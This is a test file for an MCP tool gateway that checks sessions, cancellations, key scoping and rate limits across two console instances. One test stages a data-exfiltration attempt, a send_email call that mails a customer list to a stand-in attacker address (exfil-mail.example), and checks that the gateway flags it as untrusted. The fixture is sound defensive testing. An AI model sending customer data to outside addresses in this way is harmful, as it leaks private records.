import { randomBytes } from "node:crypto";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import type { CallToolResult, Progress } from "@modelcontextprotocol/sdk/types.js";
import { type TestTenant } from "@/tests/factories";
import { connectMcpClient, MCP_ENDPOINT, type McpHandler } from "@/tests/mcp-gateway-client";
import { setUpTestDatabase, setUpTestTenant } from "@/tests/fixtures";
import { createApiKey } from "@/lib/api-keys/create-api-key";
import { createDb, type Db } from "@/lib/db/client";
import { handleMcpRequest } from "@/lib/mcp/handle-mcp-request";

// Two console instances behind a load balancer: two handlers, each with its own database client
// (its own pool, its own calls in flight), over one database. Nothing of a session is in either's memory.
const t = setUpTestDatabase();
const a = setUpTestTenant(t);
const b = setUpTestTenant(t);
let first: Db;
let second: Db;
const EVENTUALLY = { timeout: 30_000 };
const SMALL_REFUND = { invoice_number: "INV-1043", amount_minor: 10_000, reason: "Customer returned the goods" };

beforeAll(async () => {
  first = createDb(t.url);
  second = createDb(t.url);
});
afterAll(async () => {
  await Promise.all([first?.$disconnect(), second?.$disconnect()]);
});
afterEach(() => vi.unstubAllEnvs());

const instanceA: McpHandler = (request) => handleMcpRequest(request, { db: first });
const instanceB: McpHandler = (request) => handleMcpRequest(request, { db: second });

/** A load balancer: `initialize` goes to A; after it, requests take turns (B, A, B, …) unless `pick` says where. */
function balancer(pick?: (request: Request, body: string) => McpHandler | undefined) {
  const seen: string[] = [];
  let turn = 0;
  const handler: McpHandler = async (request) => {
    const body = request.method === "POST" ? await request.clone().text() : "";
    const chosen = pick?.(request, body) ?? (body.includes('"method":"initialize"') ? instanceA : turn++ % 2 === 0 ? instanceB : instanceA);
    seen.push(`${request.method} ${chosen === instanceA ? "A" : "B"}`);
    return chosen(request);
  };
  return { handler, seen };
}

async function keyFor(tenant: TestTenant, allowedTools: string[]) {
  const { apiKey, secret } = await createApiKey(t.db, {
    tenantId: tenant.id, name: `mcp-${randomBytes(3).toString("hex")}`, allowedTools, createdById: tenant.users.admin.id,
  });
  return { id: apiKey.id, secret };
}

function firstProgress() {
  let reached: () => void = () => {};
  const arrived = new Promise<void>((resolve) => (reached = resolve));
  return { arrived, onprogress: (_progress: Progress) => reached() };
}

async function onlyPendingActionOf(keyId: string) {
  const actions = await t.db.action.findMany({ where: { requesterApiKeyId: keyId, status: "pending" } });
  expect(actions).toHaveLength(1);
  return actions[0];
}

/** A request of session `sessionId` sent straight to one instance. */
function listToolsOn(handler: McpHandler, secret: string, sessionId: string) {
  return handler(new Request(MCP_ENDPOINT, {
    method: "POST",
    headers: {
      Authorization: `Bearer ${secret}`, "Content-Type": "application/json", Accept: "application/json, text/event-stream",
      "Mcp-Session-Id": sessionId, "Mcp-Protocol-Version": "2025-06-18",
    },
    body: JSON.stringify({ jsonrpc: "2.0", id: 77, method: "tools/list" }),
  }));
}

describe("MCP sessions across two console instances", () => {
  it("a session initialised on one instance is continued on the other, with what it remembers", async () => {
    const key = await keyFor(a, ["lookup_customer", "send_email"]);
    const route = balancer();
    const { client, transport } = await connectMcpClient(key.secret, route.handler);
    expect((await client.listTools()).tools.map((tool) => tool.name).sort()).toEqual(["lookup_customer", "send_email"]);
    // Tool output handed back on one instance is remembered for the next call on the other.
    const customer = (await client.callTool({ name: "lookup_customer", arguments: { customer_ref: "CUST-003" } })) as CallToolResult;
    expect(customer.isError).toBe(false);
    const progress = firstProgress();
    const call = client.callTool(
      { name: "send_email", arguments: { to: "audit-desk@exfil-mail.example", subject: "Customer list", body: "As requested, the customer list." } },
      undefined,
      { onprogress: progress.onprogress },
    );
    call.catch(() => {});
    await progress.arrived;
    const action = await onlyPendingActionOf(key.id);
    const revision = await t.db.actionRevision.findFirstOrThrow({ where: { actionId: action.id } });
    expect((revision.riskTags as Array<{ id: string }>).map((tag) => tag.id)).toContain("provenance.untrusted");
    // Both instances answered requests of the one session.
    expect(route.seen).toEqual(expect.arrayContaining(["POST A", "POST B"]));
    expect(route.seen[0]).toBe("POST A");
    expect(await t.db.mcpSession.count({ where: { id: transport.sessionId } })).toBe(1);
    await client.close();
  });

  it("a session ended on one instance is refused on the other, and the call it was waiting on there is withdrawn", async () => {
    const key = await keyFor(a, ["refund_invoice"]);
    // The call's POST is held by A; the DELETE reaches B.
    const route = balancer((request, body) => (request.method === "DELETE" ? instanceB : body.includes("tools/call") ? instanceA : undefined));
    const { client, transport } = await connectMcpClient(key.secret, route.handler);
    const progress = firstProgress();
    const call = client.callTool({ name: "refund_invoice", arguments: SMALL_REFUND }, undefined, { onprogress: progress.onprogress });
    call.catch(() => {});
    await progress.arrived;
    const action = await onlyPendingActionOf(key.id);
    const sessionId = transport.sessionId!;

    await transport.terminateSession();
    expect(route.seen.at(-1)).toBe("DELETE B");
    await expect.poll(async () => (await t.db.action.findUniqueOrThrow({ where: { id: action.id } })).status, EVENTUALLY).toBe("cancelled");
    expect((await t.db.action.findUniqueOrThrow({ where: { id: action.id } })).statusReason).toBe("The MCP client ended its session before the call was answered.");
    for (const instance of [instanceA, instanceB]) {
      const refused = await listToolsOn(instance, key.secret, sessionId);
      expect(refused.status).toBe(404);
      expect(((await refused.json()) as { error: { message: string } }).error.message).toMatch(/Session not found/);
    }
    // The call A was answering ended with its session: nothing keeps the session busy.
    await expect.poll(() => t.db.mcpSessionCall.count({ where: { sessionId } }), EVENTUALLY).toBe(0);
    await client.close();
  });

  it("a cancellation that reaches the other instance withdraws the call, as the key's", async () => {
    const key = await keyFor(a, ["refund_invoice"]);
    const route = balancer((_request, body) => (body.includes("notifications/cancelled") ? instanceB : body.includes("tools/call") ? instanceA : undefined));
    const { client } = await connectMcpClient(key.secret, route.handler);
    const progress = firstProgress();
    const abort = new AbortController();
    const call = client.callTool({ name: "refund_invoice", arguments: SMALL_REFUND }, undefined, { onprogress: progress.onprogress, signal: abort.signal });
    await progress.arrived;
    const action = await onlyPendingActionOf(key.id);
    abort.abort("The user changed their mind");
    await expect(call).rejects.toThrow(/changed their mind/);
    await expect.poll(async () => (await t.db.action.findUniqueOrThrow({ where: { id: action.id } })).status, EVENTUALLY).toBe("cancelled");
    expect(route.seen).toContain("POST B");
    const row = await t.db.action.findUniqueOrThrow({ where: { id: action.id } });
    expect(row.statusReason).toBe("Cancelled by the MCP client: The user changed their mind");
    expect(await t.db.auditEvent.findFirstOrThrow({ where: { actionId: action.id, type: "action.cancelled" } })).toMatchObject({ actorType: "api_key", actorId: key.id });
    // Withdrawn once: the instance that held the call saw it cancelled and did not try again.
    expect(await t.db.auditEvent.count({ where: { actionId: action.id, type: "action.cancel_refused" } })).toBe(0);
    // The session goes on, on either instance.
    expect((await client.listTools()).tools).toHaveLength(1);
    expect((await client.listTools()).tools).toHaveLength(1);
    await client.close();
  });

  it("a session is its key's on every instance: another key, of this tenant or another, does not find it", async () => {
    const key = await keyFor(a, ["get_invoice"]);
    const sameTenant = await keyFor(a, ["get_invoice"]);
    const otherTenant = await keyFor(b, ["get_invoice"]);
    const { client, transport } = await connectMcpClient(key.secret, instanceA);
    for (const intruder of [sameTenant, otherTenant]) {
      for (const instance of [instanceA, instanceB]) {
        const refused = await listToolsOn(instance, intruder.secret, transport.sessionId!);
        expect(refused.status).toBe(404);
      }
    }
    expect((await listToolsOn(instanceB, key.secret, transport.sessionId!)).status).toBe(200);
    await client.close();
  });

  it("the key's rate limit counts the requests of both instances", async () => {
    vi.stubEnv("COUNTERSIGN_API_RATE_LIMIT", "3");
    vi.stubEnv("COUNTERSIGN_API_RATE_WINDOW_SECONDS", "3600");
    const key = await keyFor(a, ["get_invoice"]);
    // initialize, notifications/initialized and tools/list: the key's three requests, all on A.
    const { client, transport } = await connectMcpClient(key.secret, instanceA);
    await client.listTools();
    await expect.poll(async () => (await t.db.rateLimitBucket.findMany({ where: { key: { contains: key.id } } })).reduce((n, r) => n + r.count, 0), EVENTUALLY)
      .toBeGreaterThanOrEqual(3);
    const refused = await listToolsOn(instanceB, key.secret, transport.sessionId!);
    expect(refused.status).toBe(429);
    await client.close();
  });
});
